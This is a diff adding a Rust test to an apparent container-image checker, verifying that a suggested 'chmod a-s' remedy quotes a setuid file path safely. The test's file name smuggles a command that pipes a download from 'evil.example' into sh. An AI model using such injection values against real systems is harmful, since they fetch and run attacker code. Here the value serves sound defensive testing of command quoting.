@@ -506,3 +506,12 @@ fn a_dockerfile_that_does_not_fit_mends_nothing_and_that_is_said() {
         assert_eq!(sandbox.read("Dockerfile"), text);
     }
 }
+
+#[test]
+fn a_command_in_a_remedy_takes_a_path_for_nothing_but_a_path() {
+    let sandbox = Sandbox::new();
+    let tool = Layer::new("COPY x /opt # buildkit").with_mode("opt/x;curl evil.example|sh #", "#!/bin/sh\n", 0o4755);
+    sandbox.folder("app", &good().layer(tool).layout(Packing::Gzip));
+    let text = sandbox.run("check oci:app").stdout;
+    assert!(text.contains("`chmod a-s '/opt/x;curl evil.example|sh #'`"), "{text}");
+}
